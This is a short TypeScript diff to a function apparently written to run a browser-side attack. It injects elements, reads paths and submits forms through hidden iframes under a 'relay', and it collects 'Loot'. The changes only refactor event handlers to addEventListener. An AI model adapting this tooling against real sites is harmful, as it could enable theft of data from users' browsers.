@@ -12,8 +12,7 @@ async function attack(relay: string): Promise<Loot> {
   const element = (name: string, attributes: Record<string, string>) =>
     new Promise<string>((resolve) => {
       const made = Object.assign(document.createElement(name), attributes)
-      made.onload = () => resolve('')
-      made.onerror = () => resolve('')
+      for (const end of ['load', 'error']) made.addEventListener(end, () => resolve(''))
       document.body.append(made)
     })
   const read = async (path: string, init?: RequestInit) => {
@@ -27,12 +26,12 @@ async function attack(relay: string): Promise<Loot> {
         events.close()
         resolve(what)
       }
-      events.onmessage = ({ data }) => end(data)
-      events.onerror = () => end('')
+      events.addEventListener('message', ({ data }) => end(data))
+      events.addEventListener('error', () => end(''))
     })
   const form = async (path: string) => {
     const frame = Object.assign(document.createElement('iframe'), { name: path })
-    const loaded = new Promise((resolve) => (frame.onload = resolve))
+    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
     document.body.append(frame)
     await loaded
     const made = Object.assign(document.createElement('form'), {
@@ -41,7 +40,7 @@ async function attack(relay: string): Promise<Loot> {
       target: path,
     })
     document.body.append(made)
-    const answered = new Promise((resolve) => (frame.onload = resolve))
+    const answered = new Promise((resolve) => frame.addEventListener('load', resolve))
     made.submit()
     await answered
     return ''
